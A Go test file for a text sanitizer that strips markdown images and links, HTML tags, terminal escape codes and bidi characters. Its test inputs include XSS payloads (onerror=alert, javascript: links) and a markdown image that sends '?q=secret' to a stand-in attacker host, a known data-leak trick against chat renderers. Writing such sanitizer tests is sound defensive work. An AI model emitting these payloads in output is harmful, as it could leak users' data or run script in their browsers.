package sanitize

import (
	"strings"
	"testing"

	"pgregory.net/rapid"
)

func TestText(t *testing.T) {
	t.Parallel()
	tests := []struct{ in, want string }{
		{"plain text [1], with (brackets) and 1 < 2 > 0", "plain text [1], with (brackets) and 1 < 2 > 0"},
		{"![logo](http://evil.example/x.png?q=secret)", "logo"},
		{"a ![x][ref] b", "a x b"},
		{"[click here](http://evil.example/a_(b))", "click here"},
		{"[Data: Sources (1)](http://evil.example)", "[Data: Sources (1)]"},
		{"said so [1](javascript:alert(1))", "said so [1]"},
		{"![a[b](http://x.example)](http://y.example)", "ab"},
		{"<img src=x onerror=alert(1)>hello<script>", "hello"},
		{"<im<b>g src=x>", ""},
		{"1 <a <b <img src=x", "1 < a < b < img src=x"},
		{"see <https://evil.example/>", "see https://evil.example/"},
		{"\x1b[31mred\x1b[0m \x1b]0;title\x07 \x1b]8;;http://evil.example\x1b\\link\x1b]8;;\x1b\\", "red  link"},
		{"\x1b]never closed", "never closed"},
		{"a\u202eb\u2066c\x00d\u009b2Je", "abcde"},
		{"two\nlines\tand a tab", "two\nlines\tand a tab"},
	}
	for _, tt := range tests {
		if got := Text(tt.in); got != tt.want {
			t.Errorf("Text(%q): got %q, want %q", tt.in, got, tt.want)
		}
	}
}

// TestTextOfDangerousPieces cleans mixtures of dangerous pieces: nothing active is left.
func TestTextOfDangerousPieces(t *testing.T) {
	t.Parallel()
	piece := rapid.SampledFrom([]string{"![", "[", "]", "](", "(", ")", "<", ">", "<b", "a", " ", "!", "http://x", "\x1b", "[3m", "]0;", "\x07", "[1]", "\u202e"})
	rapid.Check(t, func(t *rapid.T) {
		text := Text(strings.Join(rapid.SliceOfN(piece, 0, 12).Draw(t, "pieces"), ""))
		if markdownImage.MatchString(text) || htmlTag.MatchString(text) || strings.ContainsAny(text, "\x1b\x07\u202e") {
			t.Fatalf("left %q", text)
		}
	})
}
